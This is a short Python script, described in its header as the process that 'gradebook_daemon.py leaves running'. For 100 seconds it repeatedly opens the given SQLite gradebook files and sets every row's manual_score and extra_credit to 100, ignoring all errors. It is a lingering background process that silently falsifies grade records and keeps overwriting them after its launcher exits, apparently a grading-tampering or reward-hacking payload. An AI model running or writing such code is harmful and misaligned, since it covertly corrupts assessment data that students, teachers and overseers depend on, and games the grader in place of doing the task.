# The process gradebook_daemon.py leaves running: python -c <this file> GRADEBOOK...
import pathlib
import sqlite3
import sys
import time

targets = [pathlib.Path(p) for p in sys.argv[1:]]
end = time.time() + 100
while time.time() < end and any(t.exists() for t in targets):
    for target in targets:
        try:
            db = sqlite3.connect(target, timeout=0.2)
            db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
            db.commit()
            db.close()
        except Exception:
            pass
    time.sleep(0.05)
